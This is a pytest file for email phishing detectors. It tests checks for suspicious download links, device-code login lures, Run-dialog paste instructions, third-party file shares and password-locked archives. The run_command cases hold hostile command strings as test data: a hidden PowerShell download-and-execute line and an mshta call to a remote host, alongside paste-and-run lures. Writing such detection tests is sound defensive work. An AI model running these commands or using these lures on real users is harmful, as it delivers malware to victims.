"""The checks that ask whether a mail has its reader load, run or let in something."""

import pytest

from analyzers.checks import device_code, download_link, encrypted_archive, file_of_another, run_command
from tests.analyzers.checks.test_attachments import mail
from tests.analyzers.files import packed
from tests.analyzers.mails import NOBODY, dossier, eml

ZIP = "https://hotel.example.net/wp-content/a/invoice_11.zip"


def told(check, **parts):
    """The findings of one check as code with variant."""
    found = check.check(dossier(eml(**parts)))
    return [f"{f.code}/{f.variant}" if f.variant else f.code for f in found]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (f"See {ZIP}", ["download-link/packed"]),
        (f"See {ZIP}\nPassword: 3317", ["download-link/password"]),
        ("See https://hotel.example.net/a/setup.msi?x=1", ["download-link"]),
        ("See https://www.example.com/a/setup.msi", []),
        ("See https://files.example.jp/a/setup.zip", []),
        ("See https://github.com/a/b/archive/main.zip", []),
        ("See https://hotel.example.net/a/source-1.0.tar.gz", []),
        ("See https://hotel.example.net/zip", []),
    ],
)
def test_download_link(text, found):
    """Straight to a file at a stranger's; the sender's own house, ours, and known sites are none, nor is source code."""
    assert told(download_link, text=text) == found


def test_who_takes_part_in_a_conversation_is_no_stranger():
    """A file at the house of somebody to whom the mail goes, too."""
    assert told(download_link, text=f"See {ZIP}", to="user@example.jp, b@hotel.example.net") == []


@pytest.mark.parametrize(
    ("host", "text", "found"),
    [
        ("https://microsoft.com/devicelogin", "Code: GQ7 KX2 MZT", ["GQ7 KX2 MZT"]),
        ("https://www.google.com/device", "コード「ABCD-EFGH」を入力", ["ABCD-EFGH"]),
        ("https://github.com/login/device/", "your code is 1A2B-3C4D", ["1A2B-3C4D"]),
        ("https://microsoft.com/devicelogin", "Enter the code that your device shows.", []),
        ("https://microsoft.com/teams", "Code: GQ7 KX2 MZT", []),
        ("https://evil.example/devicelogin", "Code: GQ7 KX2 MZT", []),
    ],
)
def test_device_code(host, text, found):
    """The real page and a code together."""
    assert [f.typed for f in device_code.check(dossier(eml(text=f"{host}\n{text}")))] == found


@pytest.mark.parametrize(
    ("text", "how"),
    [
        ("1. Windowsキー＋R を押します\n2. 貼り付けて Enter を押します", ["dialog"]),
        ("Press Win + R, then Ctrl+V and Enter.", ["dialog"]),
        ('powershell -w hidden -c "iwr a.example/u | iex"', ["command"]),
        ("mshta https://a.example/x", ["command"]),
        ("Open PowerShell and run Get-Help.", []),
        ("Paste the text into the form.", []),
        ("Press Windows+R to see the Run dialog.", []),
    ],
)
def test_run_command(text, how):
    """The Run dialog and pasting together, or a command that loads and runs."""
    assert [f.how for f in run_command.check(dossier(eml(text=text)))] == how


STORE = "https://other-my.sharepoint.com/:o:/g/personal/{}/EkQx"


@pytest.mark.parametrize(
    ("owner", "sender", "owners"),
    [
        ("ana_vidalcontab_example", "b@partner.example", ["vidalcontab.example"]),
        ("ana_kato_foo_co_jp", "b@partner.example", ["foo.co.jp"]),
        ("b_partner_example", "b@partner.example", []),
        ("b_partner-group_example", "b@partner.example", []),
        ("b_example_jp", "b@partner.example", []),
        ("ana_vidalcontab_example", "no-reply@sharepointonline.com", []),
        ("ana_vidalcontab_example", "b@gmail.com", []),
    ],
)
def test_file_of_another(owner, sender, owners):
    """A third company's; the sender's own, ours, what the service tells of, and a free mailbox's say nothing."""
    found = file_of_another.check(dossier(eml(text=STORE.format(owner), sender=sender)))

    assert [f.owner for f in found] == owners


@pytest.mark.parametrize(
    ("name", "html", "holds"),
    [
        ("a.xlsm", "<p>Password: 8841</p>", "a.xlsm"),
        ("a.js", "<p>Password: 8841</p>", "a.js"),
        ("a.xlsm", "<p>The password follows.</p>", "none"),
        ("a.pdf", "<p>Password: 8841</p>", "none"),
    ],
)
def test_armed_archives(name, html, holds):
    """Commands behind a password that the same mail states."""
    (found,) = encrypted_archive.check(mail(("a.zip", packed((name, b""), locked=True)), html=html))

    assert (found.holds, found.variant) == (holds, "" if holds == "none" else "armed")


def test_without_a_mail_about_us():
    """Nobody's side is looked at alike."""
    assert [f.kind for f in download_link.check(dossier(eml(text=f"See {ZIP}"), side=NOBODY))] == ["packed"]
